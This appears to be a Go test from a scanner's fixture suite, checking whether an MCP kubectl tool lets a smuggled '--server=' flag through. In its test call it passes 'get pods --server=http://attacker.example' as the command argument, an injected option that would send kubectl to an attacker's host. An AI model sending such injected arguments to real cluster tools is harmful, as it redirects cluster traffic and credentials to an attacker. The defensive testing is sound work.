package escape_test

import (
	"os"
	"strings"
	"testing"

	elsewhere31 "fixtures/omcg0031/elsewhere"
)

// OMCG0031 on a tool built in one package, with a handler made in
// another, paired where a third registers them: kubectl reads "--server=…"
// among the command line's words in the flagged tool, and as a name after
// "--" in the other. Served by mcp-go over Streamable HTTP, called with the
// go-sdk's client.
func TestOptionInjectionElsewhere(t *testing.T) {
	marker := fakeKubectl(t)
	cs := connectMark(t, elsewhere31.Register)
	const attacker = "http://attacker.example"
	for _, tc := range []struct {
		tool    string
		flagged bool
	}{
		{"kubectl_elsewhere", true},
		{"kubectl_elsewhere_ended", false},
	} {
		os.Remove(marker)
		call(t, cs, tc.tool, map[string]any{"command": "get pods --server=" + attacker})
		got, _ := os.ReadFile(marker)
		if escaped := strings.TrimSpace(string(got)) == attacker; escaped != tc.flagged {
			t.Errorf("%s: kubectl read --server= as its option: %v, want %v", tc.tool, escaped, tc.flagged)
		}
	}
}
